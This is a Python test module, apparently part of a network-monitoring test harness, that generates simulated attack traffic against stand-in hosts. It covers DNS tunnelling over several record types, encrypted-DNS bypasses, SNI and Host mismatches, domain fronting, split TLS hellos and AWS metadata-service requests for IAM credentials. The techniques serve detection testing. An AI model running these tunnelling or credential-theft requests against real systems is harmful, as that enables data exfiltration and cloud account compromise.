# SPDX-License-Identifier: Apache-2.0
"""Techniques by what they say inside: DNS, names in TLS and HTTP, metadata. See live.py."""
import socket
import struct

import frames
from live import live
import payloads
from payloads import A, CNAME, MX, NULL, TXT
import world
from world import METADATA, METADATA6, RESOLVER, exactly


# ---- DNS ----

def tunnel(room, qtype, domain, alphabet, size=9000, server=RESOLVER, per_query=90):
    s = room.own(socket.SOCK_DGRAM, remote=server)
    for i, text in enumerate(payloads.tunnel_names(frames.noise(size), domain, alphabet, per_query)):
        room.ask(text, qtype, server, s, i + 1)
    return payloads.name(domain)


@live
def dns_tunnel_txt(room):
    return tunnel(room, TXT, "txt.tunnel-one.example", "base32")


@live
def dns_tunnel_null(room):
    return tunnel(room, NULL, "n.tunnel-two.example", "base64")


@live
def dns_tunnel_cname(room):
    return tunnel(room, CNAME, "c.tunnel-three.example", "hex")


@live
def dns_tunnel_mx(room):
    return tunnel(room, MX, "tunnel-four.example", "base32")


@live
def dns_tunnel_a_hex(room):
    return tunnel(room, A, "tunnel-five.example", "hex", size=3000, per_query=24)


@live
def dns_tunnel_link_local(room):
    return tunnel(room, A, "tunnel-six.example", "base32", server=world.RESOLVER_LINK)


@live
def dns_tunnel_ipv6(room):
    return tunnel(room, TXT, "tunnel-seven.example", "base32", server=world.RESOLVER6)


@live
def dns_tunnel_tcp(room):
    s = room.connect(53, RESOLVER)
    for i, text in enumerate(payloads.tunnel_names(frames.noise(9000), "tunnel-eight.example", "base64")):
        message = payloads.query(text, TXT, i + 1)
        s.sendall(struct.pack(">H", len(message)) + message)
        exactly(s, struct.unpack(">H", exactly(s, 2))[0])
    s.close()
    return payloads.name("tunnel-eight.example")


@live
def dns_other_resolver(room):
    message = payloads.query("www.example.com")
    room.datagrams(53, [message], reply=payloads.answer(message))


@live
def dns_other_resolver_tcp(room):
    room.listen(53, world.dns_over_tcp)
    message = payloads.query("www.example.com")
    room.exchange(53, struct.pack(">H", len(message)) + message)


@live
def dns_tunnel_other_resolver(room):
    out = [payloads.query(t, TXT, i) for i, t in enumerate(payloads.tunnel_names(frames.noise(9000), "tunnel-nine.example", "base32"))]
    room.datagrams(53, out, reply=payloads.answer(out[0]))


@live
def dns_tunnel_other_port(room):
    out = [payloads.query(t, TXT, i) for i, t in enumerate(payloads.tunnel_names(frames.noise(9000), "tunnel-ten.example", "base32"))]
    room.datagrams(5353, out, reply=payloads.answer(out[0]))


@live
def doh_by_name(room):
    room.tls(443, "cloudflare-dns.com", ("h2",))


@live
def doh_by_address(room):
    room.tls(443)


@live
def doh_private(room):
    room.tls(443, "intranet.example", ("h2",), b"POST /dns-query HTTP/1.1\r\nContent-Length: 40\r\n\r\n" + b"\0" * 40)


@live
def dot(room):
    room.tls(853, "dns.quad9.net", ("dot",))


@live
def doq(room):
    room.datagrams(853, [payloads.quic_initial()], reply=payloads.quic_initial(2))


# ---- names ----

def learn(room, text):
    """The machine asks for a name and gets the technique's address for it."""
    room.world.zone[text] = room.remote
    room.ask(text)


@live
def sni_of_another(room):
    learn(room, "sni.updates.example")
    room.tls(443, "command.elsewhere.example")


@live
def host_of_another(room):
    learn(room, "host.updates.example")
    room.listen(80)
    room.exchange(80, b"GET /stage2 HTTP/1.1\r\nHost: command.elsewhere.example\r\n\r\n")


@live
def no_sni(room):
    room.tls(443)


@live
def no_sni_to_named(room):
    learn(room, "nosni.updates.example")
    room.tls(443)


@live
def sni_of_allowed(room):
    room.tls(443, "cdn.updates.example")


@live
def fronted(room):
    learn(room, "front.updates.example")
    room.tls(443, "front.updates.example", data=b"GET /c2 HTTP/1.1\r\nHost: command.elsewhere.example\r\n\r\n")


@live
def sni_in_pieces(room):
    learn(room, "pieces.updates.example")
    hello = payloads.client_hello("command.elsewhere.example")
    room.listen(443)
    s = room.connect(443)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for i in range(0, len(hello), 40):
        s.sendall(hello[i:i + 40])
    s.recv(100)
    s.close()


@live
def quic(room):
    room.datagrams(443, [payloads.quic_initial()], reply=payloads.quic_initial(2))


@live
def http_odd_host(room):
    room.listen(80)
    room.exchange(80, b"GET / HTTP/1.1\r\nHost: 169.254.169.254\r\nX-Data: " + b"A" * 400 + b"\r\n\r\n")


# ---- the watch list ----

@live
def watched_address(room):
    room.listen(443)
    room.exchange(443)


@live
def watched_name(room):
    learn(room, "panel.bad.example")
    return payloads.name("panel.bad.example")


@live
def watched_name_in_sni(room):
    room.tls(443, "panel.bad.example")


# ---- metadata ----

CREDENTIALS = "/latest/meta-data/iam/security-credentials/"


def get(path, token=None):
    head = f"GET {path} HTTP/1.1\r\nHost: {METADATA}\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n"
    return (head + (f"X-aws-ec2-metadata-token: {token}\r\n" if token else "") + "\r\n").encode()


def token(room, server=METADATA):
    return room.http(f"PUT /latest/api/token HTTP/1.1\r\nHost: {METADATA}\r\nX-aws-ec2-metadata-token-ttl-seconds: 21600\r\n"
                     "Content-Length: 0\r\n\r\n".encode(), server).decode()


@live
def imds_v1_credentials(room):
    role = room.http(get(CREDENTIALS)).decode()
    room.http(get(CREDENTIALS + role))
    return b"app-role HTTP"


@live
def imds_v2_credentials(room):
    t = token(room)
    role = room.http(get(CREDENTIALS, t)).decode()
    room.http(get(CREDENTIALS + role, t))
    return b"app-role HTTP"


@live
def imds_ipv6_credentials(room):
    t = token(room, METADATA6)
    room.http(get(CREDENTIALS + "app-role", t), METADATA6)
    return b"app-role HTTP"


@live
def imds_split_credentials(room):
    room.http(get(CREDENTIALS + "app-role"), pieces=7)
    return b"GET /la"


@live
def imds_encoded_path(room):
    room.http(get("/latest//meta-data/%69am/security-credentials/app-role"))
    return b"%69am"


@live
def imds_scan(room):
    for path in ("", "ami-id", "hostname", "iam/", "iam/info", "local-ipv4", "mac", "network/", "placement/", "profile", "public-keys/",
                 "reservation-id", "security-groups", "services/", "tags/instance/"):
        room.http(get("/latest/meta-data/" + path))
    room.http(get("/latest/user-data"))
    room.http(get("/latest/dynamic/instance-identity/document"))
    return b"user-data HTTP"


